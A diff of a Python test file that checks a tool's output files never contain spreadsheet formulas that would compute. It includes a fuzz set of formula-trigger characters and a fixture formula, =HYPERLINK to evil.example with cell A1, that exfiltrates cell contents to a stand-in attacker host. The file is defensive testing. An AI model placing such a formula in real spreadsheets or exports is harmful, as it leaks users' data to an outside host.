@@ -1,14 +1,15 @@
 """Text that a spreadsheet would compute is in no text file, whoever writes it; other formats keep it as text."""
 
 import json
+from itertools import product
 
 import pytest
 
 import utmost as ut
 from running import called
 
-# Readers of hostile bytes and cells, and their limits, are tried without a release behind them.
-from utmost.tables.files.formulas import is_computed
+# The quick look is compared with the whole rule on 240 000 texts: no release can be made of each.
+from utmost.tables.files.formulas import _FORMULA, is_computed
 
 EVIL = '=HYPERLINK("http://evil.example/?"&A1,"click")'
 COMPUTED = [
@@ -110,17 +111,8 @@ def test_the_command_line_refuses_it_and_names_what_works(tmp_path, kind):
     assert called("verify", "o.jsonl", cwd=tmp_path).returncode == 0
 
 
-def test_numbers_are_no_formulas():
-    assert not is_computed(b"a,b\n-1.5,-2e5\n-7,(x)\n-1,-2\n")
-    assert not is_computed(b"a|b\n-1.5|hello!\n-1e-7|(x)\n")
-
-
 def test_the_quick_look_passes_nothing_that_the_whole_rule_finds():
     """Over cells of all signs that the rule knows, each beside each, at the beginning of a file and within."""
-    from itertools import product
-
-    from utmost.tables.files.formulas import _FORMULA
-
     signs = [b"=", b"-", b"+", b"@", b"(", b"!", b"|", b"[", b",", b"\n", b'"', b" ", b"'", b"5", b"a",
              "\uff1d".encode(), "\uff0b".encode(), "\ufeff".encode(), "\u200b".encode(), "\u3000".encode(),
              "\xa0".encode(), b"\x00"]  # fmt: skip
